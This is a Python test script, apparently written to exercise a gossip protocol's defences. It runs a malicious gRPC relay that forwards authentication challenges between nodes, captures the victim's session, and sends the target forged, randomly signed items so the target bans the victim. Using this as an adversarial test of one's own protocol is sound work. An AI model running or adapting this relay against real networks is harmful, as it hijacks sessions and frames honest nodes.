"""A keyless relay (issue 8 item 1), run as its own process: raw gRPC and the generated
messages only, no pausenet code and no key.

It listens at an address the honest nodes have among their peers (a member whose node is down
and whose heartbeat names no address). A node X that dials it and asks for a challenge gets one
fetched from another node Y, with `server = Y`; if X signs a login for Y, the relay forwards it
to Y, holds X's session there, and sends Y forged items under it, so that Y bans X.

    python tests/relay.py LISTEN TARGETS_FILE

TARGETS_FILE lists node addresses, one a line (read at each challenge). Prints one line per event
on stdout: `listening`, `challenge X from Y`, `session X at Y`, `refused X at Y: reason`,
`forged as X at Y: CODE`.
"""

from __future__ import annotations

import asyncio
import os
import sys
from pathlib import Path

import grpc

from pausenet.v1 import envelope_pb2, gossip_pb2, gossip_pb2_grpc

STATEMENT_TYPE = "application/vnd.pausenet.statement.v1+protobuf"


def say(line: str) -> None:
    print(line, flush=True)


class Relay(gossip_pb2_grpc.GossipServicer):
    def __init__(self, targets: Path) -> None:
        self.targets = targets
        self.channels: dict[str, grpc.aio.Channel] = {}
        self.pending: dict[bytes, str] = {}  # challenge -> the node it came from

    def stub(self, address: str) -> gossip_pb2_grpc.GossipStub:
        if address not in self.channels:
            self.channels[address] = grpc.aio.insecure_channel(address)
        return gossip_pb2_grpc.GossipStub(self.channels[address])

    async def Challenge(
        self, request: gossip_pb2.ChallengeRequest, context: grpc.aio.ServicerContext
    ) -> gossip_pb2.ChallengeReply:
        for target in self.targets.read_text().split():
            try:
                reply = await self.stub(target).Challenge(request, timeout=5)
            except grpc.aio.AioRpcError:
                continue
            if reply.server != request.client:  # a third node: ask X to log in there
                self.pending[bytes(reply.challenge)] = target
                say(f"challenge {request.client} from {reply.server}")
                return reply  # type: ignore[no-any-return]
        await context.abort(grpc.StatusCode.UNAVAILABLE, "no node to relay to")
        raise AssertionError("unreachable")

    async def Authenticate(
        self, request: gossip_pb2.AuthRequest, context: grpc.aio.ServicerContext
    ) -> gossip_pb2.AuthReply:
        auth = gossip_pb2.GossipAuth.FromString(request.auth.payload)
        target = self.pending.pop(bytes(auth.challenge), None)
        if target is None:
            await context.abort(grpc.StatusCode.UNAUTHENTICATED, "unknown challenge")
        try:
            reply = await self.stub(target).Authenticate(request, timeout=5)
        except grpc.aio.AioRpcError as exc:
            say(f"refused {auth.client} at {auth.server}: {exc.details()}")
            await context.abort(exc.code(), exc.details() or "")
            raise AssertionError("unreachable") from exc
        say(f"session {auth.client} at {auth.server}")
        await self.forge(target, auth.client, auth.server, reply.session)
        return reply  # type: ignore[no-any-return]

    async def forge(self, target: str, client: str, server: str, session: str) -> None:
        """Items no member signed, sent under the captured session: they cost `client`."""
        forged = [
            envelope_pb2.Envelope(
                payload=os.urandom(100),
                payload_type=STATEMENT_TYPE,
                signatures=[envelope_pb2.Signature(keyid=client, sig=os.urandom(64))],
            )
            for _ in range(12)
        ]
        request = gossip_pb2.ExchangeRequest(items=gossip_pb2.Items(statements=forged))
        try:
            await self.stub(target).Exchange(
                request, timeout=5, metadata=(("pausenet-session", session),)
            )
            code = "OK"
        except grpc.aio.AioRpcError as exc:
            code = exc.code().name
        say(f"forged as {client} at {server}: {code}")

    async def GetDigest(self, request: object, context: grpc.aio.ServicerContext) -> None:
        await context.abort(grpc.StatusCode.UNAVAILABLE, "relay")

    async def Exchange(self, request: object, context: grpc.aio.ServicerContext) -> None:
        await context.abort(grpc.StatusCode.UNAVAILABLE, "relay")


async def main(listen: str, targets: Path) -> None:
    server = grpc.aio.server()
    gossip_pb2_grpc.add_GossipServicer_to_server(Relay(targets), server)
    server.add_insecure_port(listen)
    await server.start()
    say("listening")
    await server.wait_for_termination()


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], Path(sys.argv[2])))
